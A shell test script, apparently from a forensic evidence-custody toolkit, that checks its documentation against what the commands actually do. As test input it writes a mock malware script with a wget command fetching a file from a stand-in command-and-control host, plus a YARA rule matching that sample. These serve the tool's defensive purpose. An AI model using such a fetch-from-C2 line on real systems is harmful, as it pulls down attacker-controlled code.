#!/bin/sh
# The docs say what the code does: the layout of an extraction in
# docs/case-folder.md, the actions the commands log, the commands that
# sign as README.md and docs/ list them, the rule hit rules.h describes.
. "$CUSTODY_TOP/tests/cli/lib.sh"
. "$CUSTODY_TOP/tests/cli/signing.inc"

DOCS=$CUSTODY_TOP/docs
C=$T/case
new_case "$C" || fail "test case made"

# an extraction that writes everything it can: copies, every occurrence,
# a rule that names an extractor
mkdir "$T/src" "$T/rules"
printf '#!/bin/sh\nwget http://c2.evil.example/gate.php -O /tmp/x # spam@evil.example 10.1.2.3\n' \
	>"$T/src/run.sh"
printf 'rule gate { meta: extractor = "zeus" strings: $a = "gate.php" condition: $a }\n' \
	>"$T/rules/gate.yar"
check "an extraction with copies, occurrences and rules" custody-extract --case "$C" \
	--item E001 --copy all --all-occurrences --rules "$T/rules" --quiet "$T/src"
X=$C/extractions/E001-X1

# ---- docs/case-folder.md: the layout names every file of the unit ----
awk '/^## Layout/ { on = 1 } on && /^```$/ { n++; if (n == 2) exit; next } on && n == 1' \
	"$DOCS/case-folder.md" >"$T/layout"
[ -s "$T/layout" ] && ok "the layout block is found" || fail "the layout block is found"
(cd "$X" && find . -mindepth 1 | sed 's|^\./||' | sort) >"$T/files"
[ -s "$T/files" ] || fail "the extraction wrote files"
while read -r f; do
	# a copy is named by its content: the layout shows the pattern
	case $f in
	objects/??/*) want="objects/<aa>/<sha256>" ;;
	objects/??) continue ;;
	*/*) want=${f##*/} ;;
	*) want=$f ;;
	esac
	if grep -qF -- "$want" "$T/layout"; then ok "the layout names $f"; else
		fail "the layout names $f ('$want' not in docs/case-folder.md's layout)"
	fi
done <"$T/files"

# ---- the actions logged are documented, and none as reserved ----
actions=$("$PYTHON" -c 'import json, sys
print(" ".join(sorted({json.loads(l)["action"] for l in open(sys.argv[1])})))' "$C/custody.log")
tr '\n' ' ' <"$DOCS/case-folder.md" | sed 's/  */ /g' >"$T/case-folder.txt"
reserved=$(grep -o '[^.]*are reserved for the commands[^.]*' "$T/case-folder.txt")
for a in $actions; do
	grep -qF -- "\`$a\`" "$T/case-folder.txt" && ok "case-folder.md documents '$a'" ||
		fail "case-folder.md documents '$a'"
	case $reserved in
	*"\`$a\`"*) fail "'$a' is logged, not reserved" ;;
	*) ok "'$a' is not called reserved" ;;
	esac
done

# ---- the commands that sign, wherever the docs list them ----
signers=""
for cmd in custody-case custody-hash custody-image custody-extract custody-log \
	custody-sign custody-verify custody-keygen; do
	$cmd --help 2>/dev/null | grep -q -- '--key FILE' && signers="$signers $cmd"
done
[ -n "$signers" ] && ok "commands that sign:$signers" || fail "no command signs?"
# README: "From then on `custody-case`, ... sign, with no other option."
tr '\n' ' ' <"$CUSTODY_TOP/README.md" | grep -o 'From then on [^.]*' >"$T/readme-list"
# exit-codes.md and environment.md name them in their lists too
tr '\n' ' ' <"$DOCS/exit-codes.md" | sed 's/  */ /g' |
	grep -o '[^;:]*(the commands that sign)' >"$T/exit-list"
tr '\n' ' ' <"$DOCS/environment.md" | sed 's/  */ /g' |
	grep -o 'read by every command that signs: [^.]*' >"$T/env-list"
for list in readme-list exit-list env-list; do
	[ -s "$T/$list" ] || fail "$list: the list is found"
	for cmd in $signers; do
		grep -qF -- "\`$cmd" "$T/$list" && ok "$list names $cmd" ||
			fail "$list names $cmd: $(cat "$T/$list")"
	done
done

# ---- rules.h: a rule hit as the inventory records it ----
line=$(grep -F '"rules":' "$X/inventory.jsonl" | head -n 1)
case $line in
*'"extractor":{"name":"zeus","status":"not available"}'*)
	ok "the inventory records the extractor a rule names" ;;
*) fail "the inventory records the extractor a rule names: $line" ;;
esac
tr '\n' ' ' <"$CUSTODY_TOP/include/custody/rules.h" | sed 's/ \* / /g; s/  */ /g' >"$T/rules.h"
grep -qF '"extractor": {"name": NAME, "status": "not available"}' "$T/rules.h" &&
	ok "rules.h says how the hit is recorded" ||
	fail "rules.h says how the hit is recorded"

echo "1..$n"
